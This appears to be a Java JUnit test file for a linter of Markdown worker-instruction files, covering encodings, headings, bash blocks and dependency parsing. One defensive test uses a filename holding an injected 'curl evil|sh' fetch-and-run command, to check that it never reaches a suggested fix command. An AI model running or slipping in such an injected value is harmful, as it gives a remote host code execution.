package dev.muster.orchestrator.engine.instruction;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// Folders as strangers have them: what a careful reader would understand is understood, or a
/// finding says that it was not.
class MessyHandsTest {
  @TempDir Path folder;

  @ParameterizedTest
  @CsvSource({
    "UTF-16, UTF-16",
    "UTF-16LE, UTF-16LE",
    "UTF-16BE, UTF-16BE",
    "windows-1252, WINDOWS-1252"
  })
  void anotherEncodingIsNamedWithTheCommandThatMendsIt(String charset, String called) {
    var text = Sample.of(1).heading("# Worker 001: Größe").text();
    var bytes = text.getBytes(Charset.forName(charset));

    var finding = InstructionFiles.of("WORKER_001_Sample.md", bytes).findings().getFirst();

    assertThat(finding.code()).isEqualTo(Code.NOT_UTF8);
    assertThat(finding.message()).endsWith("look like " + called);
    assertThat(finding.fix()).contains("iconv -f " + called + " -t UTF-8 'WORKER_001_Sample.md'");
  }

  @Test
  void aNameThatWouldBeCarriedOutStandsInNoCommand() {
    var bytes = Sample.of(1).text().getBytes(StandardCharsets.UTF_16);

    var finding =
        InstructionFiles.of("WORKER_001_x';curl evil|sh;'.md", bytes).findings().getFirst();

    assertThat(finding.message()).endsWith("look like UTF-16");
    assertThat(finding.fix()).isEqualTo("Save the file as UTF-8.");
  }

  @Test
  void bytesThatMayBeAnythingAreNotGuessedAt() {
    var finding = InstructionFiles.of("WORKER_001_A.md", new byte[] {'a', 0, 1, 2, 'b', 'c'});

    assertThat(finding.findings().getFirst().message()).endsWith("are not UTF-8 text");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "## Point $1: $2",
        "## Section $1 - $2",
        "$1. **$2**",
        "### $2",
        "## Punkt $1: $2"
      })
  void aHeadingIsThePointItNames(String heading) {
    var text = Sample.of(1).text().replaceAll("(?m)^## (\\d+)\\. ([A-Z_]+)$", heading);

    assertThat(codes(text)).doesNotContain(Code.MISSING_POINT, Code.NO_TEST);
  }

  @ParameterizedTest
  @ValueSource(strings = {"Part 3: Test process of the old tool", "Section 2 – 2024", "2 – 2024"})
  void aPartOfADocumentIsNoPoint(String heading) {
    var whole = Sample.of(1).without("TEST_PROCESS").without("DEPENDENCIES").text();
    var parsed =
        InstructionParser.parse(
            "WORKER_001.md", whole + "\n## " + heading + "\n\n```bash\nx\n```\n");

    assertThat(parsed.points()).doesNotContainKey(Point.TEST_PROCESS);
    assertThat(parsed.folds()).isEmpty();
  }

  @Test
  void romanNumbersAndLettersAreNumbersToo() {
    var text = Sample.of(1).text().replace("## 4. ", "## IV. ").replace("## 7. ", "## g) ");

    assertThat(codes(text)).isEmpty();
  }

  @Test
  void germanNamesAreReadAndItIsSaid() {
    var text =
        Sample.of(1)
            .dependsOn("Siehe oben")
            .metadata("Abhängigkeiten", "WORKER_003")
            .text()
            .replace("DELIVERABLES", "LIEFERGEGENSTÄNDE")
            .replace("DEPENDENCIES", "ABHÄNGIGKEITEN")
            .replace("TEST_PROCESS", "TESTABLAUF");

    var instruction = compile(text);

    assertThat(instruction.dependencies())
        .extracting(Reference::text)
        .containsExactly("WORKER_003");
    assertThat(instruction.deliverables().files()).hasSize(1);
    assertThat(instruction.findings())
        .filteredOn(it -> it.code() == Code.MISSPELT_NAME)
        .hasSize(4)
        .allMatch(it -> it.message().endsWith("It is read as that."));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "$ mkdir -p out                      | a prompt",
        "test “$(cat out/x)” = y             | as word processors write it",
        "test –s out/x                       | as word processors write it",
        "#!/usr/bin/env python3              | but bash runs it"
      })
  void whatBashDoesNotKnowOfAScriptIsSaid(String line, String said) {
    var text = Sample.of(1).section("EXECUTION", "```bash\n" + line + "\ntrue\n```").text();

    assertThat(compile(text).findings())
        .anySatisfy(it -> {
          assertThat(it.code()).isEqualTo(Code.UNCLEAR_SCRIPT);
          assertThat(it.message()).contains(said);
        });
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "echo \"“quoted”\" > out/x", "# “quoted”\ntrue", "cat > out/x <<'E'\n“quoted”\n$ x\nE",
        "#!/bin/bash\ntrue", "#!/bin/sh -e\ntrue", "echo 5 $ > out/x"
      })
  void whatBashTakesAsItIsMeantIsNoFinding(String script) {
    assertThat(codes(Sample.of(1).section("EXECUTION", "```bash\n" + script + "\n```").text()))
        .isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"How to run", "Steps", "Execution Plan"})
  void blocksUnderAnotherHeadingAreSaidNotToBeRun(String heading) {
    var text =
        Sample.of(1).without("EXECUTION").text() + "\n## " + heading + "\n\n```bash\nx\n```\n";

    assertThat(compile(text).findings())
        .singleElement()
        .satisfies(it -> {
          assertThat(it.code()).isEqualTo(Code.IGNORED_BLOCK);
          assertThat(it.message()).contains("'" + heading + "'").contains("an agent carries");
        });
  }

  @Test
  void anExecutionWithoutABlockIsSaidToHoldNothing() {
    var text = Sample.of(1).section("EXECUTION", "Run `make`.\n\n    make\n").text();

    assertThat(codes(text)).containsExactly(Code.IGNORED_BLOCK);
  }

  @Test
  void aFileWithTheTenPointsIsMissedWhateverItIsCalled() throws IOException {
    Sample.of(1).dependsOn("WORKER_002").write(folder);
    Files.writeString(folder.resolve("task-2.md"), Sample.of(2).text());
    Files.writeString(folder.resolve("old-1.md"), Sample.of(1).text());
    var unnumbered = Sample.of(3).heading("# Template").text();
    Files.writeString(folder.resolve("TEMPLATE.md"), unnumbered);
    Files.writeString(folder.resolve("README.md"), "# About\n\n## Dependencies\n\nNone.\n");

    var found = Workforce.read(folder).instructions();

    assertThat(found).extracting(Instruction::id).containsExactly("WORKER_001", "WORKER_002");
    assertThat(found.get(1).findings())
        .extracting(Finding::code)
        .containsExactly(Code.MISNAMED_FILE);
    assertThat(found.getFirst().findings())
        .extracting(Finding::message)
        .hasSize(2)
        .anyMatch(it -> it.contains("old-1.md"))
        .anyMatch(it -> it.contains("TEMPLATE.md"));
  }

  @Test
  void aNameWithALineBreakIsAName() throws IOException {
    Files.writeString(folder.resolve("WORKER_001_new\nline.md"), Sample.of(1).text());

    assertThat(Workforce.read(folder).instructions())
        .singleElement()
        .satisfies(it -> assertThat(it.id()).isEqualTo("WORKER_001"));
  }

  @ParameterizedTest
  @ValueSource(strings = {"`out/list.txt` is there", "The first list", "After the first list"})
  void whoNamesAFileOrATitleIsToldWhoseItIs(String line) {
    Sample.of(1)
        .heading("# Worker 001: The first list")
        .section("DELIVERABLES", "- [ ] `out/list.txt`")
        .write(folder);
    Sample.of(2).dependsOn(line).write(folder);

    assertThat(unclear())
        .singleElement()
        .satisfies(it -> {
          assertThat(it.message()).contains("WORKER_001");
          assertThat(it.fix()).contains("**Depends on:** WORKER_001");
        });
  }

  @Test
  void whoWaitsForThemAlreadyIsToldNothing() {
    Sample.of(1).section("DELIVERABLES", "- [ ] `out/list.txt`").write(folder);
    Sample.of(2).dependsOn("WORKER_001").write(folder);
    Sample.of(3).dependsOn("WORKER_002", "`out/list.txt` of the first").write(folder);

    assertThat(unclear()).isEmpty();
  }

  @Test
  void aFileThatStandsInAnItemWithoutBackticksIsSaid() {
    var text =
        Sample.of(1).section("DELIVERABLES", "- A list called names.txt\n- \"all.txt\"").text();

    var instruction = compile(text);

    assertThat(instruction.deliverables().files())
        .extracting(Deliverables.Path::path)
        .containsExactly("all.txt");
    assertThat(instruction.findings())
        .anySatisfy(it -> assertThat(it.message()).contains("`names.txt`"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\t## 4. DEPENDENCIES",
        "    ## DEPENDENCIES",
        "<h2>4. DEPENDENCIES</h2>",
        "<H3 id=\"deps\"><b>Dependencies</b></H3>"
      })
  void aHeadingInAnotherPlaceOrInHtmlIsThePoint(String heading) {
    var text = Sample.of(1).dependsOn("WORKER_003").text().replace("## 4. DEPENDENCIES", heading);

    assertThat(compile(text).dependencies())
        .extracting(Reference::text)
        .containsExactly("WORKER_003");
    assertThat(codes(text)).doesNotContain(Code.MISSING_POINT);
  }

  @ParameterizedTest
  @CsvSource({
    "'> ## $N', DEPENDENCIES",
    "'>> **$N**', SUCCESS_CRITERIA",
    "'> ## $N', EXECUTION",
    "'\t## $N', EXECUTION",
    "'<h2>$N</h2>', EXECUTION",
  })
  void aHeadingThatIsNotReadIsSaid(String heading, String name) {
    var text =
        Sample.of(1)
            .text()
            .replaceAll("(?m)^## [\\d. ]*" + name + "$", heading.replace("$N", name));

    assertThat(compile(text).findings())
        .filteredOn(it -> it.code() == Code.MISSPELT_NAME)
        .singleElement()
        .satisfies(it -> {
          assertThat(it.message()).contains(name).endsWith("It is not read.");
          assertThat(it.fix()).contains("## " + name);
        });
  }

  @Test
  void aQuoteOfAHeadingThatIsThereIsNoFinding() {
    var text = Sample.of(1).section("NOTES", "> ## 4. DEPENDENCIES\n> - none").text();

    assertThat(codes(text)).isEmpty();
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "Workers 3 downto 1 | WORKER_1-3",
        "WORKER_012 down to 9 | WORKER_009-012",
        "- 012 downto 009 | WORKER_009-012",
        "Phases 3 down to 1 | phase 1-3",
        "Phase 3-1 | phase 1-3"
      })
  void aRangeThatGoesDownwardsIsOne(String line, String range) {
    assertThat(compile(Sample.of(20).dependsOn(line).text()).dependencies())
        .extracting(Reference::text)
        .containsExactly(range);
  }

  @ParameterizedTest
  @ValueSource(strings = {"3 downto 1", "3 down to 1", "1 bis 3", "1 through 3", "1; 2", "1 – 2"})
  void aPriorityOfSeveralNumbersIsNone(String priority) {
    assertThat(codes(Sample.of(1).metadata("Priority", priority).text()))
        .contains(Code.INVALID_PRIORITY);
  }

  private List<Finding> unclear() {
    try {
      return Linter.across(Workforce.read(folder)).values().stream()
          .flatMap(List::stream)
          .filter(it -> it.code() == Code.UNCLEAR_DEPENDENCY)
          .toList();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static Instruction compile(String text) {
    return InstructionCompiler.compile("WORKER_001_Sample.md", text, "0".repeat(64));
  }

  private static List<Code> codes(String text) {
    return compile(text).findings().stream().map(Finding::code).toList();
  }
}
